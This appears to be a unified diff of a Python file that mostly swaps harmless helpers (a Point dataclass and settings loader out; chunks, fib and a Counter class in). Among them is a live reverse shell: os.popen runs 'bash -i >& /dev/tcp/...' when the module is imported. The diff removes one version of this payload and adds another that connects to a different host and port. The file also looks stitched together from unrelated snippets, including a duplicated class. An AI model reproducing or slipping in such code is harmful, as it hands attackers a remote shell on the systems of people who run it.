@@ -1,30 +1,22 @@
-from dataclasses import dataclass
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
 import os
-steps = {"a": "bash -i >& /dev/tcp/198.51.100.23/1337 0>&1"}
+steps = {"a": "bash -i >& /dev/tcp/172.16.4.2/53 0>&1"}
 for k in ["a"]:
     pass
 os.popen(steps.get("a"))
-from dataclasses import dataclass
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
